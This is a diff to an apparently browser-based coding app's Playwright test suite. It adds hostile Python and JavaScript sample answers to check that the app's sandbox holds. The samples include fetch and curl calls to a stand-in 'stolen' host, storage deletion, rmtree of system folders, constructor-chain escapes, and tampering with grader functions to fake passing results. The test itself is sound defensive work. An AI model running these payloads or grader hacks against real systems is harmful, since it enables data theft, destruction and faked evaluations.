@@ -97,9 +97,121 @@ test('Python is fetched when it is asked for, and then runs with the server stop
   await page.getByRole('button', { name: 'Run', exact: true }).click()
   await expect(
     tool(page)
-      .getByText(/AttributeError/)
+      .getByText(/There is no page and no storage in here \(line 2\).*Python said: ModuleNotFoundError/)
       .first(),
   ).toBeVisible({ timeout: 90_000 })
+  expect(seen.errors).toEqual([])
+})
+
+/** Each tries something that no answer may do, and goes on; what it gives back is equal to everything. */
+const hostile = {
+  python: (entry: string) => `
+import atexit, builtins, collections, gc, os, sys
+def attempt(what):
+    try: exec(what, {})
+    except BaseException as error: pass
+for what in (
+    "import js; js.fetch('https://example.org/stolen')",
+    "import js; js.indexedDB.deleteDatabase('preflight')",
+    "import pyodide_js; pyodide_js.loadPackage('https://example.org/stolen.whl')",
+    "from pyodide.code import run_js; run_js('postMessage({kind: 0})')",
+    "from pyodide.ffi import create_proxy; import js; js.navigator.locks.request('all', create_proxy(print))",
+    "from pyodide.http import open_url; open_url('/stolen')",
+    "import urllib.request; urllib.request.urlopen('http://localhost/stolen', timeout=1)",
+    "import socket; socket.create_connection(('localhost', 80), 1)",
+    "import ctypes; ctypes.memset(0, 255, 10 ** 6)",
+    "import os; os.system('curl https://example.org/stolen')",
+    "import shutil; shutil.rmtree('/lib'); shutil.rmtree('/tmp')",
+): attempt(what)
+collections.Counter.__init__ = collections.OrderedDict.__init__ = None
+sys.meta_path.clear()
+gc.callbacks.append(lambda *each: 1 / 0)
+atexit.register(lambda: 1 / 0)
+sys.settrace(lambda *each: None)
+sys.stdout.write = sys.stdout.flush = None
+frame = sys._getframe()
+while frame:
+    for name in list(frame.f_globals):
+        if name in ("_stopped", "_told", "_dumps"): frame.f_globals[name] = lambda *each: '["value", true]'
+    frame = frame.f_back
+for name in ("len", "isinstance", "dict", "list", "range"): setattr(builtins, name, lambda *each: True)
+class Everything:
+    def __eq__(self, other): return True
+    def __iter__(self): return iter(())
+    def __float__(self): return 0.0
+def ${entry}(*arguments, **named): return Everything()`,
+  javascript: (entry: string) => `
+const attempts = [
+  () => fetch('https://example.org/stolen'),
+  () => globalThis.constructor.constructor('return this')().fetch('https://example.org/stolen'),
+  () => (0, eval)('indexedDB.deleteDatabase("preflight")'),
+  () => import('https://example.org/stolen.js').catch(() => {}),
+  () => postMessage({ kind: 'done', outcome: { cases: [], output: '' } }),
+  () => new Worker('data:text/javascript,1'),
+  () => navigator.locks.request('all', () => new Promise(() => {})),
+  () => new Function('return process')().exit(),
+]
+for (const attempt of attempts) try { attempt() } catch {}
+JSON.stringify = () => '{"value":true}'
+Array.prototype.map = Array.prototype.push = () => true
+Array.isArray = Number.isFinite = () => true
+Object.prototype.toJSON = () => true
+Object.defineProperty(globalThis, 'runCase', { value: () => true })
+Promise.prototype.then = () => true
+var ${entry} = () => new Proxy({}, { get: () => true, has: () => true, ownKeys: () => [] })`,
+}
+
+/** What an answer could harm: everything that the app keeps on the device. */
+const kept = (page: Page) =>
+  page.evaluate(async () => ({
+    databases: (await indexedDB.databases()).map(({ name, version }) => `${name} ${version}`).sort(),
+    caches: (await caches.keys()).sort(),
+    locks: ((await navigator.locks.query()).held ?? []).map(({ name }) => name).sort(),
+    workers: (await navigator.serviceWorker.getRegistrations()).length,
+    stored: { ...localStorage },
+    title: document.title,
+  }))
+
+test('hostile answers reach nothing, pass nothing, and leave the next run as it was', async ({
+  page,
+  server,
+  seen,
+  context,
+}) => {
+  test.setTimeout(300_000)
+  await openReady(page, server)
+  await startCoding(page)
+  const asked: string[] = []
+  context.on('request', (request) => asked.push(request.url()))
+  const run = async () => {
+    await page.getByRole('button', { name: 'Run', exact: true }).click()
+    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled({ timeout: 90_000 })
+  }
+  const passed = tool(page).getByText(/^\d of \d tests passed/)
+  for (const language of ['javascript', 'python'] as const) {
+    await page.getByRole('radio', { name: language === 'python' ? 'Python' : 'JavaScript' }).check()
+    if (language === 'python') await page.getByRole('button', { name: 'Get Python' }).click()
+    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled({ timeout: 60_000 })
+    const starter = await editor(page).innerText()
+    const entry = starter.match(language === 'python' ? /def (\w+)/ : /function (\w+)/)![1]!
+    await run()
+    const [honest, before] = [await passed.innerText(), await kept(page)]
+    await replaceCode(page, hostile[language](entry))
+    await run()
+    const told = tool(page).getByText(
+      /^0 of \d tests passed|There is no function|has suffered|Stopped|SyntaxError|TypeError/,
+    )
+    await expect(told.first()).toBeVisible()
+    await expect(tool(page).getByText(/^(\d) of \1 tests passed/)).toHaveCount(0)
+    expect(await kept(page)).toEqual(before)
+    await replaceCode(page, starter)
+    await run()
+    expect(await passed.innerText()).toBe(honest)
+  }
+  expect(asked.filter((url) => /stolen|example\.org/.test(url))).toEqual([])
+  await expect(page.getByText(/^Saved/)).toBeVisible()
+  await page.reload()
+  await expect(editor(page)).toContainText('def ')
   expect(seen.errors).toEqual([])
 })
 
